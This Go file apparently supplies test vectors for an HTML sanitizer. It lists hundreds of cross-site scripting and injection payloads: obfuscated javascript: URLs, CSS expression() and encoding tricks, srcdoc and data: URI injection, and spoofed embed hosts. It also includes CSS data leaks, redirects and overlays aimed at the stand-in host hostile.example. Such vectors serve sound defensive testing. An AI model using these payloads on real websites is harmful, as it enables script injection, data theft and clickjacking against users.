package vectors

import (
	"fmt"
	"strings"
)

func styles() []item {
	items := plain(
		`<style>p{background:url(https://hostile.example/css)}</style><p>x</p>`,
		`<style>@import "https://hostile.example/a.css";</style>x`,
		`<style>@import url(javascript:pwn());</style>x`,
		`<style>@import 'data:text/css,*{background:url(https://hostile.example/x)}';</style>x`,
		`<style>@font-face{font-family:x;src:url(https://hostile.example/f.woff)}p{font-family:x}</style><p>x</p>`,
		`<style>input[value^=a]{background:url(https://hostile.example/a)}</style><input value=abc>`,
		`<style>*{color:red}</style><p>x</p>`,
		`<link rel=stylesheet href="https://hostile.example/a.css">x`,
		`<link rel="alternate stylesheet" href="data:text/css,*{background:url(https://hostile.example/x)}">x`,
		`<style>body{-moz-binding:url(https://hostile.example/x.xml#x)}</style>x`,
		`<style>p{behavior:url(x.htc)}</style><p>x</p>`,
		`<style type="text/javascript">pwn()</style>x`,
		`<style>li{list-style-image:url("javascript:pwn()")}</style><ul><li>x</ul>`,
		`<style>.x{background-image:url('javascript:pwn()')}</style><a class=x>x</a>`,
		`<style>@charset "x";@namespace "javascript:pwn()";</style>x`,
		`<style>p::before{content:url(https://hostile.example/p)}</style><p>x</p>`,
		`<svg><style>*{background:url(https://hostile.example/svg)}</style></svg>`,
		`<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>`,
		`<a style="position:fixed;inset:0;opacity:0" href="https://hostile.example/">overlay</a>`,
		`<b/style=position:fixed;top:0;left:0;font-size:200px>CLICK<`,
		`<p style="background:u\72l(https://hostile.example/e)">x</p>`,
		`<p style='width:expression(pwn())'>x</p>`,
		"<p style=`width:expression(pwn())`>x</p>",
		`<p class="fixed" style=x:y onclick=pwn() style="a:b">x</p>`,
	)
	for i, s := range []string{
		"background:url(javascript:pwn())",
		"background-image:url('javascript:pwn()')",
		"background-image:url(&quot;javascript:pwn()&quot;)",
		`background:url(java\0script:pwn())`,
		"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061script:pwn()'\\0029",
		"background-image:url(&#1;javascript:pwn())",
		"background-image:url(data:text/html,<script>pwn()</script>)",
		"background-image:url(vbscript:pwn())",
		"background-image:image-set('javascript:pwn()' 1x)",
		"background-image:url(https://pictures.example/a.jpg);x:expression(pwn())",
		"background-image:url(https://pictures.example/a.jpg'onerror='pwn())",
		"background-image:url(&quot;https://pictures.example/a.jpg\\&quot;onerror=pwn()&quot;)",
		"background-image:url('https://wsrv.nl/?url=javascript:pwn()')",
		"width:expression(pwn())",
		"xss:expr/*x*/ession(pwn())",
		`x:\65xpression(pwn())`,
		"-moz-binding:url(https://hostile.example/x.xml#x)",
		"behavior:url(javascript:pwn())",
		"list-style:url(https://hostile.example/l)",
		"content:url(https://hostile.example/c)",
		"@import 'javascript:pwn()'",
		"cursor:url(https://hostile.example/cur),auto",
		"color:red;}</style><script>pwn()</script>",
		"animation-name:x;--x:url(https://hostile.example/v);background:var(--x)",
	} {
		tag := []string{"div", "section", "p", "span"}[i%4]
		items = append(items, item{html: fmt.Sprintf(`<%s style="%s"></%[1]s><%[1]s style="%[2]s">text</%[1]s>`, tag, s)})
	}
	return items
}

func metadata() []item {
	return plain(
		`<meta http-equiv=refresh content="0;url=data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg">`,
		`<meta http-equiv=refresh content="0;url=https://hostile.example/">`,
		`<meta http-equiv="refresh" content="0;url=http://;URL=javascript:pwn()">`,
		`<META HTTP-EQUIV=ReFresh CONTENT="0; URL='/moved'">`,
		`<p><meta http-equiv=refresh content=0,/moved>x</p>`,
		`<meta http-equiv=set-cookie content="a=b">x`,
		`<meta http-equiv=content-security-policy content="script-src 'unsafe-inline'"><p onclick=pwn()>x</p>`,
		`<meta http-equiv=content-security-policy content="default-src 'none'">x`,
		`<meta http-equiv=link content="<https://hostile.example/a.css>; rel=stylesheet">x`,
		`<meta charset=utf-7>+ADw-script+AD4-pwn()+ADw-/script+AD4-`,
		`<meta http-equiv=content-type content="text/html; charset=utf-7">x`,
		`<meta name=referrer content=unsafe-url><img src="https://pictures.example/a.jpg" referrerpolicy=unsafe-url>`,
		`<meta itemprop=url content="javascript:pwn()">x`,
		`<base href="https://hostile.example/"><a href=a>x</a><img src=b>`,
		`<base target=_top><a href="https://good.example/">x</a>`,
		`<base href="javascript:/">x<a href=pwn()>y</a>`,
		`<div><base href="//hostile.example/"></div><img src=a.jpg>`,
		`<svg><base href="//hostile.example/"></svg>`,
		`<link rel=import href="data:text/html,<script>pwn()</script>">`,
		`<link rel=prefetch href="/prefetched">`,
		`<link rel=preload as=script href="/preloaded.js">`,
		`<link rel=preload as=image imagesrcset="javascript:pwn()" href=x>`,
		`<link rel=preload as=image imagesrcset="/a.jpg 1x, javascript:pwn() 2x">`,
		`<link rel=modulepreload href="/module.js">`,
		`<link rel=prerender href="/prerendered">`,
		`<link rel=dns-prefetch href="//hostile.example/"><link rel=preconnect href="//hostile.example/">`,
		`<link rel=manifest href="/manifest.json">`,
		`<link rel=icon href="javascript:pwn()">`,
		`<link rel=stylesheet href="/a.css">`,
		`<p><link rel=stylesheet href="/b.css">x</p>`,
		`<link rel=pingback href="https://hostile.example/">x`,
		`<a href="https://good.example/" ping="/pinged /pinged2">x</a>`,
		`<a href="https://good.example/" ping=javascript:pwn()>x</a>`,
		`<area href="https://good.example/" ping=/pinged>`,
		`<a href="https://good.example/" target=_blank rel=opener>x</a>`,
		`<a href="https://good.example/" target=pwnme>x</a>`,
		`<a href="https://good.example/" target=_top>x</a>`,
		`<a href="https://good.example/" download="a.exe">x</a>`,
		`<a href="https://good.example/" rel="noopener preload stylesheet">x</a>`,
		`<a href="https://good.example/" hreflang='"><script>pwn()</script>' type='"onclick=pwn()'>x</a>`,
		`<html lang='"><script>pwn()</script>'><body>x`,
		`<title><script>pwn()</script></title><p>x`,
		`<title></title><script>pwn()</script><p>x`,
		`<p contenteditable accesskey=x draggable=true spellcheck=true onclick=pwn()>x</p>`,
		`<p popover id=pwnme onbeforetoggle=pwn()>x</p><button popovertarget=pwnme>b</button>`,
		`<p is=x-pwn part=x slot=y nonce=z itemscope>x</p>`,
		`<script type="application/ld+json">{"@type":"x","url":"javascript:pwn()"}</script><script>pwn()</script>`,
	)
}

func frames() []item {
	return plain(
		`<iframe srcdoc="<script>pwn()</script>"></iframe>`,
		`<iframe srcdoc="<img src=x onerror=pwn()>"></iframe>`,
		`<iframe srcdoc="&lt;img src=x onerror=pwn()&gt;"></iframe>`,
		`<iframe srcdoc="&#60;script&#62;parent.pwn()&#60;/script&#62;"></iframe>`,
		`<iframe srcdoc="<svg onload=pwn()>" src="https://player.vimeo.com/video/76979871"></iframe>`,
		`<iframe src="java&Tab;script:parent.pwn()"></iframe>`,
		`<iframe src="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=="></iframe>`,
		`<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>"></iframe>`,
		`<iframe src="https://hostile.example/"></iframe>`,
		`<iframe src="//hostile.example/embed/x"></iframe>`,
		`<iframe src="https://www.youtube.com@hostile.example/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="https://www.youtube.com.hostile.example/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="https://hostile.example/www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="https://www.youtube.com\@hostile.example/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="https://hostile.example\.www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="https://hostile.example#@www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="https://hostile.example?www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="javascript://www.youtube.com/embed/dQw4w9WgXcQ%0apwn()"></iframe>`,
		`<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ&quot; onload=&quot;pwn()"></iframe>`,
		`<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload=pwn()></iframe>`,
		`<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>pwn()</script>"></iframe>`,
		`<iframe src="https://www.youtube.com/embed/../../redirect?q=javascript:pwn()"></iframe>`,
		`<iframe src="https://www.youtube.com/embed/%22%3E%3Cscript%3Epwn()%3C/script%3E"></iframe>`,
		`<iframe src="https://player.bilibili.com/player.html?bvid=BV1x&quot;onload=&quot;pwn()"></iframe>`,
		`<iframe src="https://w.soundcloud.com/player/?url=javascript:pwn()" onload=pwn()></iframe>`,
		`<iframe src="https://www.facebook.com/plugins/video.php?href=javascript%3Apwn()" onload=pwn()></iframe>`,
		`<iframe src="https://v.qq.com/txp/iframe/player.html?vid=javascript:pwn()" onload=pwn()></iframe>`,
		`<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload=pwn()></iframe>`,
		`<iframe allow="camera; microphone" csp="x" name=pwnme src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe data-src="javascript:pwn()"></iframe>`,
		`<iframe data-lazy-src="javascript:pwn()" src="about:blank" onload=pwn()></iframe>`,
		`<iframe data-src="https://hostile.example/x" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
		`<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"><img src=x onerror=pwn()></iframe>`,
		`<iframe></iframe><img src=x onerror=pwn()></iframe>`,
		`<lite-youtube videoid='x"onload="pwn()' onclick=pwn()>x</lite-youtube>`,
		`<lite-youtube videoid="javascript:pwn()"></lite-youtube>`,
		`<amp-iframe src="javascript:pwn()" srcdoc="<script>pwn()</script>"></amp-iframe>`,
		`<amp-youtube data-videoid='"><script>pwn()</script>'></amp-youtube>`,
		`<object type="text/html" data="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=="></object>`,
		`<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>"></object>`,
		`<object data="https://hostile.example/x.swf"><param name=AllowScriptAccess value=always></object>`,
		`<object><param name=movie value="https://www.youtube.com/v/dQw4w9WgXcQ"><embed src="javascript:pwn()"></object>`,
		`<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:pwn()></object>`,
		`<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduKCkiLz4=" type="image/svg+xml">`,
		`<embed code="javascript:pwn()" allowscriptaccess=always src="https://hostile.example/x.swf">`,
		`<embed src="https://player.youku.com/player.php/sid/XMTI=/v.swf" flashvars="javascript:pwn()" onload=pwn()>`,
		`<applet code=Pwn archive="https://hostile.example/x.jar" onload=pwn()></applet>`,
		`<portal src="javascript:pwn()" onclick=pwn()></portal>`,
		`<fencedframe mode=opaque-ads src="javascript:pwn()"></fencedframe>`,
		`<webview src="data:text/html,<script>pwn()</script>" onclick=pwn()></webview>`,
		`<blockquote class="twitter-tweet"><a href="javascript:pwn()">tweet</a><script>pwn()</script></blockquote>`,
		`<blockquote class="instagram-media" data-instgrm-permalink="javascript:pwn()"><p onclick=pwn()>x</p></blockquote>`,
		`<blockquote class="tiktok-embed" cite="javascript:pwn()" data-video-id='"><script>pwn()</script>'>x</blockquote>`,
		`<div class="fb-post" data-href="javascript:pwn()" onclick=pwn()></div>`,
		`<mpvoice voice_encode_fileid='"><script>pwn()</script>' name="x" onclick=pwn()></mpvoice>`,
		`<mp-common-mpaudio voice_encode_fileid='x" onerror="pwn()' name='<img src=x onerror=pwn()>'></mp-common-mpaudio>`,
		`<span class="js_tx_video_container"><iframe class="video_iframe" data-src="javascript:pwn()" onload=pwn()></iframe></span>`,
		`<uni-youtube-player video-id='"><script>pwn()</script>' onclick=pwn()>x</uni-youtube-player>`,
	)
}

func pictures() []item {
	items := plain(
		`<video controls poster="javascript:pwn()"><source src="javascript:pwn()" onerror=pwn()></video>`,
		`<video controls autoplay src="javascript:pwn()" onplay=pwn() onerror=pwn()></video>`,
		`<video src="https://pictures.example/a.mp4"><img src=x onerror=pwn()></video>`,
		`<video src="https://pictures.example/a.mp4"><a href="javascript:pwn()">download</a></video>`,
		`<video src="https://pictures.example/a.mp4"><track src="data:text/vtt,WEBVTT" onload=pwn() default></video>`,
		`<video data-src="javascript:pwn()" data-poster="javascript:pwn()" controls onerror=pwn()></video>`,
		`<video src="blob:https://hostile.example/1" onerror=pwn()></video>`,
		`<video src="data:text/html,<script>pwn()</script>" onerror=pwn()></video>`,
		`<audio src="data:text/html,<script>pwn()</script>" onerror=pwn()></audio>`,
		`<audio controls><source src="java&Tab;script:pwn()" onerror=pwn()></audio>`,
		`<amp-video src="javascript:pwn()" poster="javascript:pwn()" onclick=pwn()></amp-video>`,
		`<amp-img src="javascript:pwn()" onerror=pwn()><noscript><img src=x onerror=pwn()></noscript></amp-img>`,
		`<amp-img srcset="javascript:pwn() 1x" src="https://pictures.example/a.jpg" onclick=pwn()></amp-img>`,
		`<a-img src="javascript:pwn()" onclick=pwn()></a-img>`,
		`<lazy-image src="javascript:pwn()" onclick=pwn()></lazy-image>`,
		`<progressive-image src="javascript:pwn()" onclick=pwn()></progressive-image>`,
		`<uni-image-full-width data-loading='{"desktop":"javascript:pwn()"}' onclick=pwn()></uni-image-full-width>`,
		`<img src="https://pictures.example/a.jpg" alt="a" longdesc="javascript:pwn()" onload=pwn()>`,
		`<img src="https://pictures.example/a.jpg" usemap="#m" ismap><map name=m><area href="javascript:pwn()" shape=default></map>`,
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'><script>pwn()</script></svg>" onload=pwn()>`,
		`<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduKCkiLz4=" onload=pwn()>`,
		`<img src="data:text/html,<script>pwn()</script>" onerror=pwn()>`,
		`<img src="data:image/png;base64,&quot; onerror=&quot;pwn()">`,
		`<img src="data:image/gif;base64,R0lGOD'onerror='pwn()" data-src="x&quot;onerror=&quot;pwn()">`,
		`<img src="blob:x" onerror=pwn()>`,
		`<img src="https://user:pass@hostile.example/a.jpg" onerror=pwn()>`,
		`<img src="https://pictures.example/a.jpg" width="100%&quot;onload=&quot;pwn()" height="expression(pwn())">`,
		`<img src="https://pictures.example/a.jpg" crossorigin=use-credentials attributionsrc="/attribution" onload=pwn()>`,
		`<img src="https://pictures.example/a.jpg" sizes="auto&quot; onload=&quot;pwn()" srcset="x 1w">`,
		`<picture onclick=pwn()><source srcset="javascript:pwn()" media='"><script>pwn()</script>' type='x"onerror="pwn()'><img src=x onerror=pwn()></picture>`,
	)
	for _, s := range []string{
		"javascript:pwn()",
		"javascript:pwn() 1x",
		"https://pictures.example/a.jpg 1x, javascript:pwn() 2x",
		"javascript:pwn() 2x, https://pictures.example/a.jpg 1x",
		"https://pictures.example/a.jpg 300w, java&Tab;script:pwn() 900w",
		",,,javascript:pwn(),,, 2x",
		"data:text/html,<script>pwn()</script> 2x",
		"data:image/svg+xml,<svg/onload=pwn()> 2x, https://pictures.example/a.jpg",
		"https://wsrv.nl/?url=javascript:pwn() 2x",
		"https://pictures.example/a,b,javascript:pwn() 2x",
		"https://pictures.example/a.jpg 1x&quot; onerror=&quot;pwn()",
		"https://pictures.example/a.jpg (1x, javascript:pwn()) 2x",
		"x&#44; javascript:pwn() 9999w",
	} {
		items = append(items,
			item{html: `<img src="https://pictures.example/s.jpg" srcset="` + s + `" onerror=pwn() onload=pwn()>`},
			item{html: `<picture><source data-srcset="` + s + `" srcset="` + s + `"><img data-srcset="` + s + `" onerror=pwn() src=x></picture>`},
		)
	}
	return items
}

// lazyNames are the attributes scripts read a picture's address from.
var lazyNames = strings.Fields(`data-src data-original data-orig data-url data-orig-file data-large-file
	data-medium-file data-full-url data-original-mos data-2000src data-800src data-lazy-src data-lazy data-lazyload
	data-lazyload-src data-lazy-load-src lazysrc data-ll-src data-lzl-src data-sources data-hi-res-src data-defer-src
	data-actualsrc data-original-src data-canonical-src data-echo data-cfsrc data-pagespeed-lazy-src pagespeed_lazy_src
	data-pagespeed-high-res-src data-ezsrc data-ezsrcset data-opt-src data-nitro-lazy-src nitro-lazy-src
	nitro-lazy-srcset data-breeze data-wpfc-original-src data-flickity-lazyload data-lazy-img data-frz-src data-hi-res
	fifu-data-src data-orig-src data-full-src data-src-desktop data-retina-src src-swap-high-dpi data-mediaviewer-src
	data-image-loader data-pk-src data-runner-src data-src-img data-img-url rel:bf_image_src data-file-url data-source
	data-pin-media data-normal data-src-template sf-src data-hires data-image data-imgsrc imgsrc data-imageurl data-img
	data-thumb data-cover data-page-image-url data-preview data-placeholder data-s org_src original origin-src
	data-origin-src load-src src2 _src real_src file zoomfile bpic data-isrc data-thumb_url data-ks-lazyload
	data-native-src data-backsrc data-rjs data-at2x data-2x data-1x data-croporisrc data-default-watermark-src
	data-xextension-imageproxy-original-src data-xextension-imageproxy-original-srcset data-savepage-src
	data-savepage-currentsrc data-savepage-srcset data-srcs data-srcset data-lazy-srcset data-bgset data-bg
	data-background data-background-image data-bg-src data-bgurl data-lazy-background data-poster data-imgs data-gallery
	data-litespeed-src data-cookieconsent-src data-cmp-src data-consent-src data-saferedirecturl data-href data-link
	data-mdurl e-landurl data-avatar data-upload-link data-darkmode-bgimage`)

func lazyAttributes() []item {
	values := []string{
		"javascript:pwn()",
		"&#1;java&Tab;script:pwn()//a.jpg",
		"data:text/html,<script>pwn()</script>",
		"https://pictures.example/a.jpg&quot; onerror=&quot;pwn()",
		"https://wsrv.nl/?url=javascript%3Apwn()%2F%2Fa.jpg",
		"{&quot;src&quot;:&quot;javascript:pwn()&quot;}",
		"&lt;img src=x onerror=pwn()&gt;",
	}
	shapes := []string{
		`<p><img %s="%s" src="" onerror=pwn()></p>`,
		`<p><img class="lazy" %s="%s" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload=pwn()></p>`,
		`<div %s="%s" onclick=pwn()></div>`,
		`<figure><a %s="%s" href="javascript:pwn()"><img %[1]s="%[2]s"></a></figure>`,
		`<iframe %s="%s" onload=pwn()></iframe>`,
		`<video %s="%s" controls onclick=pwn()><source %[1]s="%[2]s" onerror=pwn()></video>`,
		`<picture><source %s="%s"><img %[1]s="%[2]s" src=x onerror=pwn()></picture>`,
		`<a %s="%s" href="javascript:;" onclick=pwn()>x</a>`,
	}
	var items []item
	for i, name := range lazyNames {
		// Seven values and eight shapes: neighbours differ in both.
		items = append(items, item{name: name, html: fmt.Sprintf(shapes[i%len(shapes)], name, values[i%len(values)])})
	}
	for i, v := range values {
		items = append(items, item{
			name: fmt.Sprintf("data-src on img %d", i+1),
			html: fmt.Sprintf(`<p>text</p><img data-src="%s" src=x onerror=pwn()><p>text</p>`, v),
		})
	}
	return items
}
